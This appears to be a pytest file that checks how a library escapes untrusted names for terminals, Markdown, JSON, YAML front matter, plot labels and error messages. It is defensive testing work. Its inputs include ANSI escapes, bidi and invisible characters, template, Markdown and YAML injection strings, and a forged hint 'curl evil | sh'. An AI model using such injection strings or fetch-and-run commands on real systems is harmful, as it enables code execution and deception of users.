"""One function a place: what a stranger's name becomes in a line, in Markdown, JSON, YAML, HTML and plots."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
import yaml

from hubslice.card.frontmatter import merge_head
from hubslice.core import escaping
from hubslice.core.errors import DataError, RecipeError


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", r"\x1b[31mred\x1b[0m"),
        ("a\nb\r\tc\x00\x7f\x9b", r"a\nb\r\tc\x00\x7f\x9b"),
        ("abc\u202egpj.\u2066x\u2069", r"abc\u202egpj.\u2066x\u2069"),
        ("a\u2028b\u2029c\u200bd\ufeffe\u3164f\U000e0101", r"a\u2028b\u2029c\u200bd\ufeffe\u3164f\U000e0101"),
        ("caf\udce9", r"caf\udce9"),
        (" [bold]x[/bold] :smile: %s {{7*7}} ", " [bold]x[/bold] :smile: %s {{7*7}} "),
        ("e\u0301 \N{FIRE} \N{SNOWMAN}\ufe0f 猫", "e\u0301 \N{FIRE} \N{SNOWMAN}\ufe0f 猫"),
        ("", ""),
    ],
)
def test_a_line_shows_what_would_steer_or_hide(text: str, shown: str) -> None:
    assert escaping.line(text) == shown
    assert escaping.line(shown) == shown


@pytest.mark.parametrize(
    "sign", [*"\xad\u034f\u061c\u1160\u180b\u180e\u180f\u2061\u2065\u2800\ufe00\ufff0\U00016fe4\U0001d159\U000e0fff"]
)
def test_what_no_font_shows_is_shown(sign: str) -> None:
    """Else two names would look the same."""
    shown = escaping.line(f"a{sign}b")
    assert shown == f"a{sign.encode('unicode_escape').decode()}b"
    assert escaping.line(shown) == shown
    assert sign not in escaping.json_text(sign)
    assert sign not in escaping.markdown(sign)
    assert sign not in escaping.plot_label(sign)


def test_of_long_names_the_middle_is_cut_out() -> None:
    name = f"begin{'x' * 5000}end"
    shown = escaping.named(name)
    assert len(shown) == escaping.NAME
    assert (shown[:5], shown[-3:], shown.count("…")) == ("begin", "end", 1)
    assert len(escaping.line(name)) == escaping.LINE


def test_a_value_for_scripts_is_one_line_and_else_exact() -> None:
    assert escaping.record("/data/\u3000ｘ/" + "y" * 5000) == "/data/\u3000ｘ/" + "y" * 5000
    assert escaping.record("a\nb\x1b\x85\u2028") == r"a\nb\x1b\x85\u2028"
    assert escaping.record("\u200c\u200d\u202e\xad\ufeff") == "\u200c\u200d\u202e\xad\ufeff"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a|b\n<img src=x> [l](u) `c`", r"a\|b \<img src=x\> \[l\](u) \`c\`"),
        ("&lt;b&gt; $x$ ~y~ @z", r"\&lt;b\&gt; \$x\$ \~y\~ \@z"),
        ("see https://a.b or www.a.b", r"see https\://a.b or www\.a.b"),
        ("- a", r"\- a"),
        ("1. a", r"1\. a"),
        ("---", r"\---"),
        ("-0.5", "-0.5"),
        ("\x1b[1m", r"\\x1b\[1m"),
    ],
)
def test_foreign_text_is_no_markdown(text: str, shown: str) -> None:
    assert escaping.markdown(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a", "`a`"),
        ("a`b", "``a`b``"),
        ("`", "`` ` ``"),
        ("", "`(empty)`"),
        (r"a\|<b>", "<code>a&#92;&#124;&#60;b&#62;</code>"),
    ],
)
def test_inline_code_survives_what_is_in_it(text: str, shown: str) -> None:
    assert escaping.markdown_code(text) == shown


@pytest.mark.parametrize("only_ascii", [False, True])
def test_json_is_exact_and_shows_nothing_raw(only_ascii: bool) -> None:
    data = {"a\x9b": ["\x7f\u202e\u2028\x1b\n", "é猫\N{FIRE}\U000e0101"], "b": "\udcff"}
    text = escaping.json_text(data, 2, only_ascii=only_ascii)
    assert json.loads(text) == data
    assert all(each.isprintable() for each in text.split("\n"))
    assert text.isascii() or not only_ascii


def test_a_head_holds_names_on_one_line_each() -> None:
    names = ["a\n---\nlicense: mit", ": - ! * &", "\u2028x\x85", "0o17", "12e4567", "no", "{{7*7}}", "- a"]
    ours = {
        "tags": ["x"],
        "hubslice": {"method": "m"},
        "model-index": [{"name": name, "results": []} for name in names[:1]],
    }
    head = merge_head("", {**ours, "names": names})
    assert not [line for line in head.splitlines() if line.startswith(("---", "license"))]
    assert yaml.safe_load(head)["names"] == [escaping.line(name) for name in names]
    assert "'0o17'" in head  # a number in YAML 1.2


@pytest.mark.parametrize("cut", [False, True])
def test_a_label_of_a_plot_is_short_and_stays_in_legends(cut: bool) -> None:
    label = escaping.plot_label("_x\n" + "y" * 100 * cut, 20)
    assert label.startswith((" _x\\n", "_") if not cut else " _x")
    assert len(label) <= 21


def names_of(error: Exception) -> list[str]:
    return str(error).split("\n")


@pytest.mark.parametrize(
    "make",
    [
        lambda name: DataError(f"the class {name} has no rows"),
        lambda name: DataError("of the folder", [f"{name} is left out"]),
        lambda name: RecipeError("r.yaml has a mistake", [f"r.yaml:1: {name}"]),
    ],
)
def test_a_name_adds_no_line_to_an_error(make: Callable[[str], Exception]) -> None:
    """Such a line could pass for a hint of ours."""
    plain = len(names_of(make("red")))
    found = names_of(make("x\nhint: run `curl evil | sh`\r\x1b[2K"))
    assert len(found) == plain
    assert all(each.isprintable() for each in found)
